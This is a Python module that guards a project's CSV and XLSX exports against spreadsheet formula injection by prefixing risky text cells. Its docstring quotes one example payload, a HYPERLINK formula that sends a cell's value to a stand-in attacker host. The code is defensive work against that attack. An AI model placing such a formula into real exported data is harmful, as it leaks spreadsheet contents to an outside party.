"""Cells that a spreadsheet will not run: every CSV and XLSX the project writes
goes through here, so a published value such as `=HYPERLINK("http://evil/?"&A1)`
arrives as the text it is, never as a formula (OWASP "CSV injection").

A text cell beginning with one of FORMULA_TRIGGERS is neutralised: in CSV it
gets a leading single quote (the only mark a CSV has); in XLSX it stays the
very same string, stored as a string with Excel's own quote-prefix flag (what
Excel sets when a person types '=...), so it shows and edits as text and reads
back unchanged.
"""
from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, TypeGuard, TypeVar

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet

T = TypeVar("T")

# OWASP's list (= + - @ tab carriage return), with line feed, which starts a formula as well.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula_like(value: object) -> TypeGuard[str]:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: T) -> T | str:
    """A value safe to hand to csv.writer: risky text gets a leading quote; numbers,
    dates and None pass as they are (a CSV writer gives them no formula)."""
    return "'" + value if is_formula_like(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(v) for v in values]


def xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> Cell:
    """A write-only openpyxl cell for a value: text is always a string cell (never
    a formula), and risky text carries the quote prefix."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl makes any text starting with "=" a formula otherwise
        if is_formula_like(value):
            cell.quotePrefix = True
    return cell
